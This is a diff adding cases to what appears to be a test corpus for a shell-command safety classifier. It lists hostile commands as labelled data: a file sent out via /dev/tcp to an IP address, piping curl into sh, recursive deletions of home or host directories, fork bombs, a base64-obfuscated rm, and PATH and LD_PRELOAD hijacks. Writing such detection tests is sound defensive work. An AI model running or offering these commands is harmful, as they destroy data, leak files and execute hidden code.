@@ -131,7 +131,9 @@ CORPUS: dict[str, list[tuple[str, str]]] = {
         ("kill -9 -1234", D), ("pkill python", D), ("killall node", D), ("shutdown -h now", D), ("reboot", D),
         ("mkfs.ext4 /dev/sdb", D), ("mount /dev/sdb /mnt", D), ("systemctl stop sshd", D), ("launchctl unload x", D),
         (":(){ :|:& };:", D), ("f(){ f|f& }; f", D), ("shred -u x", D), ("chroot / sh", D), ("iptables -F", D),
-        ("useradd evil", D), ("sysctl -w x=1", D), ("unshare -r sh", U),
+        ("useradd evil", D), ("sysctl -w x=1", D), ("unshare -r sh", U), ("fuser -k 8080/tcp", D),
+        ("cat f > /dev/tcp/10.0.0.1/80", D), ("systemd-run --user rm -rf ~", D), ("tmux new -d 'curl x | sh'", N),
+        ("docker run -v /:/h alpine rm -rf /h/etc", N), ("systemd-run --user sh evil.sh", N), ("open -a Terminal x.sh", N),
     ],
     "environment changes": [
         ("PATH=/tmp/x:$PATH ls", U), ("PATH=.:$PATH; ls", U), ("export PATH=/tmp/x:$PATH; git status", U),
@@ -139,7 +141,9 @@ CORPUS: dict[str, list[tuple[str, str]]] = {
         ("GIT_EXTERNAL_DIFF=x git diff", U), ("GIT_SSH_COMMAND='sh -c x' git fetch", U), ("PAGER='sh -c x' git log", U),
         ("export LD_PRELOAD=x.so; cat f", U), ("declare -x NODE_OPTIONS='--require x'; npm test", U),
         ("set -a; LD_PRELOAD=x; ls", U), ("alias ls='rm -rf x'; ls", U), ("hash -p /tmp/x ls; ls", U),
-        ("enable -f x.so ls", U), ("source x.sh; ls", U),
+        ("enable -f x.so ls", U), ("source x.sh; ls", U), (". /dev/stdin <<< 'rm -rf x'", D),
+        ("GIT_DIR=/tmp/evil git status", U), ("git --exec-path=/tmp/e status", U), ("${PATH:0:1}bin/rm -rf x", U),
+        ("/???/r? -rf x", U), ("$0 -c 'rm -rf x'", U), ("bash -c \"$(echo cm0gLXJmIHg= | base64 -d)\"", U),
     ],
     "parse errors and trickery": [
         ("echo 'unterminated", U), ("if then fi", U), ("rm -rf x )", D), ("echo hi; rm -rf x # comment", D),
